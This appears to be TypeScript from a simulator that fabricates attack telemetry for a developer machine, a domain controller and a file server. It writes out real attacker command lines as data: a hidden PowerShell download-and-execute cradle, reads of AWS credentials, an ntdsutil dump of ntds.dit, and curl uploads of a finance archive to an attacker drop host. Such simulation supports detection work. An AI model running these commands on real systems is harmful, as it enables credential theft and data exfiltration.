import type { RemoteRun } from '../activity/remote-service.ts';
import { visitShare } from '../activity/shares.ts';
import type { Host } from '../company/hosts.ts';
import { between, type Micros, millisecond, minute, second } from '../day.ts';
import { images } from '../windows/images.ts';
import { encodedCommand, logScript } from '../windows/powershell.ts';
import type { Process } from '../windows/processes.ts';
import { logFileCreate } from '../windows/sysmon.ts';
import type { World } from '../world.ts';
import type { Cast } from './cast.ts';
import { beacon, type Foothold } from './foothold.ts';
import { runAttackPsExec, startAttackProcess, talkToAttacker } from './marked.ts';

/** PsExec under another name. */
const tool = 'C:\\Users\\Public\\fontsync.exe';

/** From the victim's machine to another with the stolen account; returns a command shell there. */
function moveTo(world: World, cast: Cast, foothold: Foothold, to: Host, at: Micros): Process {
  const run: RemoteRun = runAttackPsExec(world, {
    at,
    from: foothold.elevated,
    to,
    account: cast.stolenAccount,
    tool,
    lasts: 35 * minute,
  });
  return startAttackProcess(world, {
    at: at + 2 * second,
    parent: run.service,
    image: images.cmd,
    command: '"cmd.exe"',
    session: run.session,
    lasts: 33 * minute,
  });
}

/** On the developer's machine: a second foothold, and the keys in `.aws`. */
export function robDeveloper(world: World, cast: Cast, foothold: Foothold, at: Micros): void {
  const host = cast.developer.person.desk;
  logFileCreate(world, foothold.elevated, at - 20 * second, tool);
  const shell = moveTo(world, cast, foothold, host, at);
  const script = `IEX (New-Object Net.WebClient).DownloadString('https://${world.outside.attacker.command.name}/s/second.txt')`;
  const outpost = startAttackProcess(world, {
    at: at + 30 * second,
    parent: shell,
    image: images.powershell,
    command: encodedCommand(script, '-NoP -NonI -W Hidden'),
    lasts: 31 * minute,
  });
  logScript(world, outpost, at + 30 * second + 400 * millisecond, script, 'Invoke-Expression');
  beacon(world, outpost, at + 32 * second, at + 30 * minute);
  const home = `C:\\Users\\${cast.developer.person.account.name}`;
  [`dir /s /b ${home}\\.aws ${home}\\.ssh`, `type ${home}\\.aws\\credentials`].forEach((words, index) => {
    startAttackProcess(world, {
      at: between(world.random, at + (6 + index * 3) * minute, at + (8 + index * 3) * minute),
      parent: outpost,
      image: images.cmd,
      command: `"${images.cmd}" /c ${words}`,
      lasts: 200 * millisecond,
    });
  });
}

/** On a controller: the directory is copied with ntdsutil and fetched over the administrative share. */
export function robController(world: World, cast: Cast, foothold: Foothold, at: Micros): void {
  const host = world.random.pick(world.controllers);
  const shell = moveTo(world, cast, foothold, host, at);
  const savedAt = between(world.random, at + 150 * second, at + 200 * second);
  const saved = startAttackProcess(world, {
    at: savedAt,
    parent: shell,
    image: images.ntdsutil,
    command: 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\q" q q',
    lasts: 80 * second,
  });
  logFileCreate(world, saved, savedAt + 50 * second, 'C:\\Windows\\Temp\\q\\Active Directory\\ntds.dit');
  const { connection } = visitShare(world, {
    at: at + 7 * minute,
    from: foothold.elevated.host,
    to: host,
    account: cast.stolenAccount,
    share: 'C$',
    localPath: 'C:',
    files: [
      {
        path: 'Windows\\Temp\\q\\Active Directory\\ntds.dit',
        bytes: world.random.integer(90_000_000, 160_000_000),
        write: false,
        mime: 'application/octet-stream',
      },
    ],
    lasts: 50 * second,
  });
  world.marks.connectionUids.add(connection.uid);
}

const gigabyte = 1_000_000_000;

/** On the file server: a share is packed and sent to the drop. */
export function robFileServer(world: World, cast: Cast, foothold: Foothold, at: Micros): void {
  const shell = moveTo(world, cast, foothold, world.server('file-server'), at);
  const archive = 'C:\\ProgramData\\fontcache.7z';
  const packer = startAttackProcess(world, {
    at: at + 4 * minute,
    parent: shell,
    image: images.sevenZip,
    command: `"${images.sevenZip}" a -pFontSync1 -mhe=on -v700m ${archive} D:\\Shares\\Finance`,
    lasts: 9 * minute,
  });
  logFileCreate(world, packer, at + 4 * minute + second, archive);
  const { drop } = world.outside.attacker;
  for (let part = 1; part <= 3; part += 1) {
    const when = at + (14 + (part - 1) * 5) * minute;
    const name = `${archive}.00${part}`;
    const sender = startAttackProcess(world, {
      at: when,
      parent: shell,
      image: images.curl,
      command: `curl.exe -s -k -T ${name} https://${drop.name}/u/`,
      lasts: 4 * minute,
    });
    talkToAttacker(world, {
      at: when + 200 * millisecond,
      process: sender,
      site: drop,
      sent: Math.floor(0.7 * gigabyte) + world.random.integer(0, 0.02 * gigabyte),
      received: 2_900,
      lasts: 230 * second,
      cached: part > 1,
    });
  }
}
